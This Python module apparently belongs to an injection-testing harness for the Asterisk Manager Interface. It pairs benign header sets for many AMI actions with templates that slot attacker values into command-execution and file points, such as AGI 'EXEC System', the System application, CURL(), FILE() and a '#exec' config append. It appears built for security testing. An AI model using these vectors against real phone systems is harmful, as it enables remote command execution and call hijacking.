"""The other headers of each action, all harmless, so that Asterisk runs it with the nasty one.

``{own}`` and ``{other}`` are live channels of the attacker's own call, ``{agi}`` one that waits for AGI
commands, ``{bridge}`` a bridge, ``{id}`` an extension of every context that distinguishes attempts.  One
entry an action; an action that is missing here has its bare name.
"""

from collections.abc import Iterator
from typing import Final, NamedTuple

HONEST: Final = """
AbsoluteTimeout: Channel={own}|Timeout=600
AgentLogoff: Agent=42
AGI: Channel={agi}|Command=VERBOSE x 1
AOCMessage: Channel={own}|MsgType=D|ChargeType=Free
Atxfer: Channel={own}|Exten={id}|Context=own
BlindTransfer: Channel={own}|Exten={id}|Context=own
Bridge: Channel1={own}|Channel2={other}|Tone=no
BridgeDestroy: BridgeUniqueid={bridge}
BridgeInfo: BridgeUniqueid={bridge}
BridgeKick: BridgeUniqueid={bridge}|Channel={own}
BridgeTechnologySuspend: BridgeTechnology=holding_bridge
BridgeTechnologyUnsuspend: BridgeTechnology=holding_bridge
CancelAtxfer: Channel={own}
ChangeMonitor: Channel={own}|File=attack
Command: Command=core show uptime
ConfbridgeKick: Conference=theirs|Channel={own}
ConfbridgeList: Conference=theirs
ConfbridgeLock: Conference=none
ConfbridgeMute: Conference=none|Channel={own}
ConfbridgeSetSingleVideoSrc: Conference=theirs|Channel={own}
ConfbridgeStartRecord: Conference=none
ConfbridgeStopRecord: Conference=none
ConfbridgeUnlock: Conference=none
ConfbridgeUnmute: Conference=none|Channel={own}
ControlPlayback: Channel={own}|Control=stop
CoreShowChannelMap: Channel={own}
CreateConfig: Filename=attack.conf
DBDel: Family=attack|Key=x
DBDelTree: Family=attack
DBGet: Family=attack|Key=x
DBGetTree: Family=attack
DBPut: Family=attack|Key=x|Val=y
DialplanExtensionAdd: Context=attack|Extension=1|Priority=1|Application=NoOp
DialplanExtensionRemove: Context=attack|Extension=1
ExtensionState: Exten=100|Context=lab
FAXSession: SessionNumber=1
GetConfig: Filename=queues.conf
GetConfigJSON: Filename=queues.conf
Getvar: Channel={own}|Variable=X
Hangup: Channel={own}
JabberSend: Jabber=x|ScreenName=x|Message=x
ListCategories: Filename=queues.conf
LocalOptimizeAway: Channel={own}
MailboxCount: Mailbox=100@default
MailboxStatus: Mailbox=100@default
MessageSend: To=pjsip:200|From=x|Body=x
MixMonitor: Channel={own}|File=attack.wav
MixMonitorMute: Channel={own}|State=0|Direction=both
ModuleCheck: Module=res_mutestream
ModuleLoad: Module=res_mutestream.so|LoadType=reload
Monitor: Channel={own}|File=attack|Mix=1
MuteAudio: Channel={own}|State=off|Direction=all
Originate: Channel=Local/own@own|Context=own|Exten={id}|Priority=1|Async=true|Timeout=1000
Park: Channel={own}|TimeoutChannel=Local/own@own-0000|Timeout=200
PauseMonitor: Channel={own}
PJSIPHangup: Channel={own}
PJSIPNotify: Endpoint=200|Variable=Event=x
PJSIPQualify: Endpoint=200
PJSIPRegister: Registration=x
PJSIPSetMaintenance: Endpoint=200|State=off
PJSIPShowEndpoint: Endpoint=200
PJSIPShowMaintenance: Endpoint=200
PJSIPUnregister: Registration=x
PlayDTMF: Channel={own}|Digit=1|Duration=50
PlayMF: Channel={own}|Digit=1|Duration=50
PresenceState: Provider=CustomPresence:x
QueueAdd: Queue=attack|Interface=Local/own@own|Penalty=1|Paused=yes
QueueChangePriorityCaller: Queue=attack|Caller={own}|Priority=1
QueueLog: Queue=attack|Event=X|Message=x
QueueMemberRingInUse: Interface=Local/own@own|RingInUse=no|Queue=attack
QueuePause: Interface=Local/own@own|Paused=yes|Queue=attack|Reason=x
QueuePenalty: Interface=Local/own@own|Penalty=1|Queue=attack
QueueReload: Queue=attack
QueueRemove: Queue=attack|Interface=Local/own@own
QueueReset: Queue=attack
QueueRule: Rule=x
QueueStatus: Queue=attack
QueueSummary: Queue=attack
QueueWithdrawCaller: Queue=attack|Caller={own}
Redirect: Channel={own}|Context=own|Exten={id}|Priority=1
Reload: Module=res_mutestream
SendFlash: Channel={own}
SendText: Channel={own}|Message=x
Setvar: Channel={own}|Variable=X|Value=x
ShowDialPlan: Context=own
SorceryMemoryCacheExpire: Cache=x
SorceryMemoryCacheExpireObject: Cache=x|Object=x
SorceryMemoryCachePopulate: Cache=x
SorceryMemoryCacheStale: Cache=x
SorceryMemoryCacheStaleObject: Cache=x|Object=x
Status: Channel={own}
StopMixMonitor: Channel={own}
StopMonitor: Channel={own}
UnpauseMonitor: Channel={own}
UpdateConfig: SrcFilename=attack.conf|DstFilename=attack.conf|Action-000000=NewCat|Cat-000000=x
UserEvent: UserEvent=x
VoicemailBoxSummary: Context=default|Mailbox=100
VoicemailForward: Mailbox=100|Context=default|Folder=INBOX|ID=1|ToFolder=INBOX|ToMailbox=100|ToContext=default
VoicemailMove: Mailbox=100|Context=default|Folder=INBOX|ID=1|ToFolder=Old
VoicemailRefresh: Context=default|Mailbox=100
VoicemailRemove: Mailbox=100|Context=default|Folder=INBOX|ID=1
VoicemailUserStatus: Context=default|Mailbox=100
"""

#: After one of these the call has ended or moved: each gets a call of its own.
ENDS_THE_CALL: Final = frozenset(
    {
        *("absolutetimeout", "atxfer", "blindtransfer", "bridge", "bridgekick", "confbridgekick", "hangup"),
        *("localoptimizeaway", "park", "pjsiphangup", "playdtmf", "redirect", "setvar"),
    }
)


class Variant(NamedTuple):
    """Another setting of the same header: the other headers, and where in it the value goes."""

    beside: dict[str, str]
    form: str


_RUNS: Final = {
    "Application": "",
    "Context": "",
    "Exten": "",
    "Priority": "",
}


def _application(name: str, *forms: str) -> tuple[Variant, ...]:
    return tuple(Variant({**_RUNS, "Application": name}, form) for form in forms or ("%s",))


#: By action and header: values that are harmless alone, in a place where they would not be.
VARIANTS: Final = {
    ("AGI", "Command"): (
        Variant({}, "EXEC Playback %s"),
        Variant({}, "EXEC Dial %s"),
        Variant({}, "EXEC Set X=%s"),
        Variant({}, "EXEC NoOp %s"),
        Variant({}, "EXEC Goto %s"),
        Variant({}, "EXEC System %s"),
        Variant({}, 'SET VARIABLE X "%s"'),
        Variant({}, "SET VARIABLE BLINDTRANSFER %s"),
        Variant({}, "GET FULL VARIABLE %s"),
        Variant({}, "DATABASE PUT victim key %s"),
        Variant({}, "STREAM FILE %s #"),
        Variant({}, "RECORD FILE %s wav # 1"),
    ),
    ("Command", "Command"): (
        Variant({}, "core show channels %s"),
        Variant({}, "dialplan eval function %s"),
        Variant({}, "database put victim key %s"),
        Variant({}, "channel originate %s application Wait 1"),
        Variant({}, "core show functions like %s"),
    ),
    ("Getvar", "Variable"): (
        Variant({}, "CHANNELS(%s)"),
        Variant({}, "DB(%s)"),
        Variant({}, "STAT(e,%s)"),
        Variant({}, "CURL(%s)"),
        Variant({}, "GROUP_MATCH_COUNT(%s)"),
        Variant({}, "IMPORT(%s,X)"),
        Variant({}, "REGEX(%s x)"),
        Variant({}, "CUT(X,%s,1)"),
    ),
    ("Status", "Variables"): (
        Variant({}, "X,%s"),
        Variant({}, "CHANNELS(%s)"),
        Variant({}, "FILE(%s)"),
    ),
    ("Setvar", "Value"): (
        Variant({"Variable": "BLINDTRANSFER"}, "%s"),
        Variant({"Variable": "ATTENDEDTRANSFER"}, "%s"),
        Variant({"Variable": "FORWARD_CONTEXT"}, "%s"),
        Variant({"Variable": "CALLERID(name)"}, "%s"),
        Variant({"Variable": "CHANNEL(hangup_handler_push)"}, "%s"),
        Variant({"Variable": "MIXMONITOR_FILENAME"}, "%s"),
        Variant({"Variable": "GOTO_ON_BLINDXFR"}, "%s"),
        Variant({"Variable": "GLOBAL(LAB)"}, "%s"),
        Variant({"Variable": "DB(victim/key)"}, "%s"),
    ),
    ("Setvar", "Variable"): (Variant({}, "FILE(%s)"), Variant({}, "GLOBAL(%s)"), Variant({}, "SHARED(X,%s)")),
    ("Originate", "Variable"): (
        Variant({}, "X=%s"),
        Variant({}, "__BLINDTRANSFER=%s"),
        Variant({}, "%s=1"),
        Variant({}, "A=1,ATTENDEDTRANSFER=%s"),
        Variant({}, "CALLERID(name)=%s"),
        Variant({}, "FILE(%s)=x"),
        Variant({}, "DB(victim/key)=%s"),
        Variant({}, "GLOBAL(LAB)=%s"),
        Variant({}, "TRANSFER_CONTEXT=%s"),
    ),
    ("Originate", "Data"): (
        *_application("Playback"),
        *_application("Dial", "%s", "Local/own@own,1,%s", "Local/own@own,1,L(1000:500)G(%s)"),
        *_application("SayUnixTime", ",,'%s'"),
        *_application("Queue", "attack,,%s", "%s"),
        *_application("ConfBridge", "%s", "attack,%s"),
        *_application("VoiceMail", "%s"),
        *_application("UserEvent", "%s"),
        *_application("Set", "X=%s", "BLINDTRANSFER=%s", "DB(victim/key)=%s"),
        *_application("MixMonitor", "%s", "x.wav,,%s"),
        *_application("ChanSpy", "%s"),
        *_application("Gosub", "%s"),
        *_application("Goto", "%s"),
        *_application("Page", "%s"),
        *_application("Record", "%s"),
        *_application("System"),
        *_application("While"),
        *_application("Log", "NOTICE,%s"),
        *_application("Park", "%s"),
        *_application("Read", "X,%s"),
        *_application("SendText", "%s"),
        *_application("BridgeWait", "%s"),
        *_application("Originate", "%s,app,Wait,1", "Local/own@own,exten,%s"),
        *_application("Transfer", "%s"),
    ),
    ("Originate", "Application"): (Variant({**_RUNS, "Data": "{traps}/{id}"}, "%s"),),
    ("MessageSend", "Variable"): (Variant({}, "X=%s"), Variant({}, "Request-URI=%s")),
    ("UpdateConfig", "Value-000000"): (
        Variant({"Action-000000": "Append", "Cat-000000": "x", "Var-000000": "a"}, "%s"),
        Variant({"Action-000000": "Append", "Cat-000000": "x", "Var-000000": "#exec"}, "%s"),
    ),
}


def headers_of(action: str) -> dict[str, str]:
    """The headers of a harmless action."""
    return dict(_ROWS.get(action, ()))


def _rows() -> Iterator[tuple[str, tuple[tuple[str, str], ...]]]:
    for line in HONEST.strip().splitlines():
        name, _, rest = line.partition(": ")
        pairs = (item.partition("=") for item in rest.split("|"))
        yield name, tuple((header, value) for header, _, value in pairs)


_ROWS: Final = dict(_rows())
